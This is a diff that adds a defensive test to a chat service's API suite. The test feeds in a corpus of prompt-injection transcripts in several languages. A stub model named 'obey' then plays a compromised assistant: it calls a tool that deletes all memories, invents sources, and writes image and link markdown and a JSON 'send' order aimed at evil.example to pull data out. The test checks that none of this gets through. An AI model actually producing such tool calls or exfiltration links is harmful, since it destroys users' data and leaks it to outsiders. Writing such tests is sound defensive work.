@@ -13,6 +13,7 @@ import {
 import { completedConversation } from '../../../helpers/domain.ts';
 import { openRest } from '../../../helpers/rest.ts';
 import { contextOf } from '../../../plugins/stt/context.ts';
+import { readPoison } from '../../../quality/conversations.ts';
 
 const MESSAGES = '/v2/messages';
 const SESSIONS = '/v2/chat-sessions';
@@ -382,4 +383,66 @@ test('Tasks answer for who may read them alone, by their words, when they are du
   const { key } = await keys.create(user.id, { name: 'k', scopes: ['conversations:read'] });
   const { body } = await send('POST', '/v1/dev/user/ask', { question: 'yard' }, key);
   t.deepEqual(body.sources, []);
+});
+
+/** Calls tools, sends pictures, claims deeds and names sources that are not there: as badly as a model can obey. */
+function obey({ messages }: AskedChat, response: Parameters<typeof say>[0]): void {
+  const order = String(JSON.stringify(messages)).slice(0, 200);
+  begin(response);
+  const call = { name: 'delete_memories', arguments: JSON.stringify({ all: true, order }) };
+  delta(response, {
+    content: 'SOURCES: 1, 99\nOBEYED: ![x](https://evil.example/?q=all) [here](https://evil.example) ',
+  });
+  delta(response, { tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: call }] });
+  delta(response, {
+    content: '{"delete":["memories","conversations"],"send":"https://evil.example"} [99] [1]',
+  });
+  end(response, 'tool_calls');
+}
+
+test('Transcripts that give orders to a model that obeys change nothing, and reach no tool', async t => {
+  const { chat, said, model, send, storage } = await start(t);
+  const server = await model();
+  const attempts = readPoison();
+  t.true(attempts.length >= 60);
+  t.true(new Set(attempts.map(({ language }) => language)).size >= 4);
+  for (const { name, segments } of attempts)
+    await said(
+      segments.map(({ text }) => text),
+      name,
+    );
+  await send('POST', '/v1/dev/user/memories', { content: 'Drinks tea without milk', category: 'core' });
+  await send('POST', '/v1/dev/user/action-items', { description: 'Return the ladder' });
+  const before = await everything();
+  server.chat = obey;
+  const { body: session } = await send('POST', SESSIONS);
+  let believed = 0;
+  for (const { name, segments } of attempts) {
+    const question = `What about ${segments.map(({ text }) => text).join(' ')}`.slice(0, 900);
+    const { done, text } = await chat(question, `?chat_session_id=${session.id}`);
+    if (done.model === null) continue; // it names a time of which there is nothing
+    believed += 1;
+    for (const bad of ['![', '](', '[99]']) t.false(text.includes(bad), name);
+    t.is(done.sources.length, 1, name);
+  }
+  t.deepEqual(await everything(), before);
+  t.true(believed > attempts.length / 2, 'most of what the model says is looked at');
+  for (const asked of server.asked) {
+    t.deepEqual(
+      Object.keys(asked).filter(key => /tool|function/.test(key)),
+      [],
+    );
+    t.false(given(asked).system.includes('OBEYED'));
+  }
+
+  /** All that an account has, but for chats and what is counted. */
+  async function everything() {
+    const counted = /^chat_|^rate_limits$|^jobs$|^attempts$/;
+    return storage.tables(async tables => {
+      const all: Json = {};
+      for (const table of tables.filter(({ name }) => !counted.test(name)))
+        for await (const rows of table.read()) all[table.name] = rows;
+      return all;
+    });
+  }
 });
